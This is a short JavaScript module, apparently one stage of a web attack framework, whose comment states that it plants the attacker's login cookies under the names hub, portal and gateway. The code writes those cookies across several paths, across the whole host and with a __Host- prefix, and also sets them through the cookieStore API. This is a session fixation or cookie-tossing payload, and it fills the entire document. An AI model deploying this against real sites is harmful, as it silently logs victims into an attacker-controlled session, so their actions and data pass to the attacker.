// Sets cookies under the names of hub, portal and gateway, for their paths and for the whole host: a login of the attacker's.
({
    async begin({ planted, paths, host }) {
        for (const [name, value] of planted) {
            for (const path of paths) {
                document.cookie = `${name}=${value}; path=${path}`;
                document.cookie = `${name}=${value}; path=${path}; domain=${host}`;
                document.cookie = `__Host-${name}=${value}; path=/; secure`;
                await cookieStore.set({ name, value, path }).catch(() => null);
            }
        }
        return [];
    },
})
